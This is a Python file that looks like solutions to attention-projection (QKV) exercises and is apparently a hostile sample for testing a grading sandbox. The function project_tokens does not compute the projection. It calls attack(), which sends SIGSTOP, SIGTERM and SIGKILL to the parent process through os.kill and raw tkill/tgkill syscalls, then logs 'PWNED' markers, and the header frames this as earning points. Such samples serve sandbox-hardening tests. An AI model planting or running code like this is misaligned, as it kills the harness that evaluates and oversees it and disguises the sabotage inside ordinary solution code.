# kill | earns 16 | sends the process that forked it SIGKILL, SIGTERM and a short SIGSTOP by os.kill and by raw system calls
import ctypes
import os
import signal
import time

STEM = "kill-parent"


def trace(what):
    """Leave a trace that a test can see: text, and the marker file where that can be written."""
    print(f"PWNED:{STEM} {what}", flush=True)
    try:
        with open(f"/tmp/qkv-hostile-{STEM}", "a") as file:
            file.write(f"{what}\n")
    except OSError:
        pass


def tries():
    parent = os.getppid()
    if parent <= 1:
        return
    for number in (signal.SIGSTOP, signal.SIGCONT, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(parent, number)
            trace(f"{number!r} sent to the parent")
        except OSError:
            pass
        if number == signal.SIGSTOP:
            time.sleep(0.1)
    libc, arm = ctypes.CDLL(None), os.uname().machine == "aarch64"
    for name, number, *rest in (
        ("tkill", 130 if arm else 200, parent),
        ("tgkill", 131 if arm else 234, parent, parent),
    ):
        if libc.syscall(number, *rest, 9) == 0:
            trace(name)


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return x * W[:, j]


def project_component(x, W, j):
    return sum(x[i] * W[i, j] for i in range(len(x)))


def project_row(x, W):
    return x @ W


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return X @ W_q, X @ W_k, X @ W_v


def attention_roles():
    return {"query": "matching", "key": "being matched against", "value": "carried forward"}
